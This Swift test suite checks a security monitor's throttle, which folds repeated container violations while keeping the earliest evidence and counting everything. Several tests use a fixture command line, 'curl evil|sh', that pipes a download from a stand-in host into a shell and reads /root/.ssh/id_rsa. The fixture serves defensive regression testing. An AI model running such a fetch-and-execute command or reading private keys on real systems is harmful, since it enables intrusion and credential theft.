import Testing
import TestSupport

@testable import SinkKit

/// The throttle folds and caps, and never lets a later violation replace an
/// earlier one's evidence or vanish uncounted.
@Suite struct ThrottleTests {
    /// A violation of container `container` with its own pid, serial, audit time,
    /// command line and path.
    static func violation(
        serial: UInt64, pid: Int32 = 100, commandLine: String = "sh -c cat /etc/hostname", path: String = "/etc/hostname",
        container: String = "3a5b0c", syscall: String = "openat"
    ) -> Violation {
        var v = Samples.violation(serial: serial)
        v.process.pid = pid
        v.process.commandLine = UntrustedBytes(commandLine)
        v.process.filePath = UntrustedBytes(path)
        v.container?.id = container
        v.syscall.name = syscall
        v.audit.time = Timestamp(millisecondsSinceEpoch: 1_000_000 + Int64(serial))
        return v
    }

    /// Every count that came out: sent at once (count 1 each) and in summaries.
    static func total(_ out: [Violation]) -> Int { out.reduce(0) { $0 + $1.count } }

    @Test func summaryCarriesTheFirstOccurrenceAndTheSpanOfTheRepeats() throws {
        var t = Throttle(windowMS: 1000, maxPerSecond: 0)
        #expect(t.admit(Self.violation(serial: 1, pid: 11), now: 0)?.count == 1)
        for i in 2...10 { #expect(t.admit(Self.violation(serial: UInt64(i), pid: Int32(10 + i)), now: Int64(i)) == nil) }
        #expect(t.closeWindows(now: 999).isEmpty)
        let summary = try #require(t.closeWindows(now: 1000).first)
        #expect(summary.count == 9)
        #expect(summary.process.pid == 11, "the first occurrence's pid, not the last one's")
        #expect(summary.audit.serial == 1)
        #expect(summary.audit.time == Timestamp(millisecondsSinceEpoch: 1_000_001))
        #expect(summary.fold == Violation.Fold(
            kind: .repeats, firstSerial: 2, lastSerial: 10,
            firstTime: Timestamp(millisecondsSinceEpoch: 1_000_002), lastTime: Timestamp(millisecondsSinceEpoch: 1_000_010)))
        #expect(t.folded == 9)
        #expect(t.foldedByCause[.repeats] == 9)
    }

    /// The regression of issue 12 item 2: benign → `curl evil|sh` reading
    /// `/root/.ssh/id_rsa` → benign, same executable and syscall.
    @Test func laterNoiseNeverReplacesEarlierEvidence() {
        var t = Throttle(windowMS: 10_000, maxPerSecond: 100)
        var out: [Violation] = []
        out += [t.admit(Self.violation(serial: 1, pid: 11), now: 0)].compactMap { $0 }
        out += [t.admit(Self.violation(serial: 2, pid: 12, commandLine: "sh -c curl evil|sh", path: "/root/.ssh/id_rsa"), now: 1)].compactMap { $0 }
        out += [t.admit(Self.violation(serial: 3, pid: 13), now: 2)].compactMap { $0 }
        out += t.flushAll(now: 3)
        let evil = out.filter { $0.process.filePath == "/root/.ssh/id_rsa" }
        #expect(evil.count == 1)
        #expect(evil.first?.process.commandLine == "sh -c curl evil|sh")
        #expect(evil.first?.process.pid == 12)
        #expect(evil.first?.audit.serial == 2)
        #expect(out.filter { $0.process.filePath == "/etc/hostname" }.map(\.process.pid) == [11, 11])
        #expect(Self.total(out) == 3)
    }

    /// Nine decoys (same executable and syscall, distinct paths) used to fill the
    /// budget of eight and the overflow's first place: `curl evil|sh` reading
    /// /root/.ssh/id_rsa next was only a count in a decoy's summary. A finding
    /// beyond the budget goes out at once while the rate cap allows; only what
    /// the cap holds back folds into the overflow.
    @Test func decoysBeyondTheBudgetCannotTurnALaterFindingIntoACount() {
        var t = Throttle(windowMS: 10_000, maxPerSecond: 100, distinctPerKey: 8)
        for i in 0..<9 { _ = t.admit(Self.violation(serial: UInt64(i), path: "/etc/decoy\(i)"), now: Int64(i)) }
        let evil = t.admit(Self.violation(serial: 9, pid: 66, commandLine: "sh -c curl evil|sh", path: "/root/.ssh/id_rsa"), now: 9)
        #expect(evil?.process.filePath == "/root/.ssh/id_rsa")
        #expect(evil?.process.pid == 66)
        #expect(evil?.count == 1)
    }

    /// A finding beyond the budget that already went out in this window is folded
    /// when it repeats, so a container looping on it does not spend the cap.
    @Test func aRepeatOfAFindingSentBeyondTheBudgetIsFolded() {
        var t = Throttle(windowMS: 10_000, maxPerSecond: 100, distinctPerKey: 1)
        #expect(t.admit(Self.violation(serial: 1, path: "/a"), now: 0) != nil)
        #expect(t.admit(Self.violation(serial: 2, path: "/b"), now: 1) != nil)
        #expect(t.admit(Self.violation(serial: 3, path: "/b"), now: 2) == nil)
        #expect(t.foldedByCause[.distinctOverflow] == 1)
        #expect(Self.total(t.flushAll(now: 3)) == 1)
    }

    @Test func distinctFindingsBeyondTheBudgetAndTheCapFoldIntoTheKeysOverflowKeepingTheFirst() throws {
        var t = Throttle(windowMS: 1000, maxPerSecond: 2, distinctPerKey: 2)
        #expect(t.admit(Self.violation(serial: 1, path: "/a"), now: 0) != nil)
        #expect(t.admit(Self.violation(serial: 2, path: "/b"), now: 0) != nil)
        #expect(t.admit(Self.violation(serial: 3, path: "/c"), now: 0) == nil)
        #expect(t.admit(Self.violation(serial: 4, path: "/d"), now: 0) == nil)
        #expect(t.admit(Self.violation(serial: 5, path: "/a"), now: 0) == nil, "a repeat of a tracked finding")
        let summaries = t.closeWindows(now: 1000)
        let overflow = try #require(summaries.first { $0.fold?.kind == .distinctOverflow })
        #expect(overflow.process.filePath == "/c", "the first finding beyond the budget keeps its evidence")
        #expect(overflow.count == 2)
        #expect(overflow.fold?.firstSerial == 3 && overflow.fold?.lastSerial == 4)
        #expect(t.foldedByCause[.distinctOverflow] == 2)
        #expect(t.foldedByCause[.repeats] == 1)
    }

    @Test func differentExecutablesAreDistinctFindingsAndSyscallsDistinctKeys() {
        var t = Throttle(windowMS: 1000, maxPerSecond: 0)
        var other = Self.violation(serial: 2)
        other.process.executable = "/bin/other"
        #expect(t.admit(Self.violation(serial: 1), now: 0) != nil)
        #expect(t.admit(other, now: 1) != nil)
        #expect(t.admit(Self.violation(serial: 3, syscall: "mount"), now: 2) != nil)
        #expect(t.keyCount == 2)
    }

    @Test func aFullTableFoldsNewKeysIntoOneSummaryInsteadOfLettingThemThrough() throws {
        var t = Throttle(windowMS: 1000, maxPerSecond: 0, maxKeys: 2)
        #expect(t.admit(Self.violation(serial: 1, container: "c1"), now: 0) != nil)
        #expect(t.admit(Self.violation(serial: 2, container: "c2"), now: 0) != nil)
        for i in 3...50 { #expect(t.admit(Self.violation(serial: UInt64(i), container: "c\(i)"), now: 0) == nil) }
        #expect(t.keyCount == 2)
        #expect(t.foldedByCause[.tableFull] == 48)
        let overflow = try #require(t.closeWindows(now: 1000).first { $0.fold?.kind == .tableFull })
        #expect(overflow.container?.id == "c3")
        #expect(overflow.count == 48)
        #expect(overflow.fold?.firstSerial == 3 && overflow.fold?.lastSerial == 50)
    }

    @Test func theRateCapHoldsWhenTheTableIsFull() {
        var t = Throttle(windowMS: 500, maxPerSecond: 5, maxKeys: 10)
        var out: [Violation] = []
        for i in 0..<1000 {
            if let v = t.admit(Self.violation(serial: UInt64(i), container: "c\(i)"), now: 0) { out.append(v) }
        }
        #expect(out.count == 5)
        for second in 1...20 {
            let summaries = t.closeWindows(now: Int64(second) * 1000)
            #expect(summaries.count <= 5, "summaries take tokens too")
            out += summaries
        }
        #expect(Self.total(out) == 1000, "nothing lost: every violation is in a message's count")
    }

    @Test func summariesWaitForTokensAndKeepCounting() {
        var t = Throttle(windowMS: 100, maxPerSecond: 2)
        var out: [Violation] = []
        for k in 0..<4 {
            out += [t.admit(Self.violation(serial: UInt64(k * 10), container: "c\(k)"), now: 1000)].compactMap { $0 }
            out += [t.admit(Self.violation(serial: UInt64(k * 10 + 1), container: "c\(k)"), now: 1000)].compactMap { $0 }
        }
        #expect(out.count == 2)
        let first = t.closeWindows(now: 2000)
        #expect(first.count == 2)
        #expect(t.nextDeadline == 3000)
        #expect(t.admit(Self.violation(serial: 99, container: "c3"), now: 2500) == nil)
        out += first
        out += t.closeWindows(now: 3000)
        out += t.closeWindows(now: 4000)
        #expect(Self.total(out) == 9)
        #expect(t.nextDeadline == nil)
    }

    @Test func windowZeroWithACapHoldsAndCountsWhatTheCapHoldsBack() {
        var t = Throttle(windowMS: 0, maxPerSecond: 1)
        var out: [Violation] = []
        for i in 0..<3 { out += [t.admit(Self.violation(serial: UInt64(i), path: "/p\(i)"), now: 0)].compactMap { $0 } }
        #expect(out.count == 1)
        #expect(t.foldedByCause[.rateLimited] == 2)
        out += t.closeWindows(now: 1000)
        out += t.closeWindows(now: 2000)
        #expect(out.map(\.process.filePath) == ["/p0", "/p1", "/p2"])
        #expect(Self.total(out) == 3)
    }

    @Test func windowZeroWithoutACapPassesEverything() {
        var t = Throttle(windowMS: 0, maxPerSecond: 0)
        #expect(t.admit(Self.violation(serial: 1), now: 0) != nil)
        #expect(t.admit(Self.violation(serial: 2), now: 0) != nil)
        #expect(t.keyCount == 0)
    }

    /// Whatever comes in, every violation is accounted for by the counts that
    /// come out, and the table never holds more than `maxKeys` keys.
    @Test(arguments: [(Int64(0), 3), (Int64(250), 0), (Int64(1000), 7), (Int64(50), 1)])
    func nothingIsLostUnderAnyMix(windowMS: Int64, cap: Int) {
        var t = Throttle(windowMS: windowMS, maxPerSecond: cap, maxKeys: 5, distinctPerKey: 3)
        var rng = SplitMix64(seed: UInt64(windowMS) &* 31 &+ UInt64(cap))
        var out: [Violation] = []
        var now: Int64 = 0
        for i in 0..<5000 {
            now += Int64.random(in: 0...3, using: &rng)
            let v = Self.violation(
                serial: UInt64(i), path: "/p\(Int.random(in: 0..<6, using: &rng))", container: "c\(Int.random(in: 0..<8, using: &rng))")
            if let sent = t.admit(v, now: now) { out.append(sent) }
            if i % 50 == 0 { out += t.closeWindows(now: now) }
            #expect(t.keyCount <= 5)
        }
        out += t.flushAll(now: now)
        #expect(Self.total(out) == 5000)
        #expect(out.allSatisfy { $0.count >= 1 })
    }
}

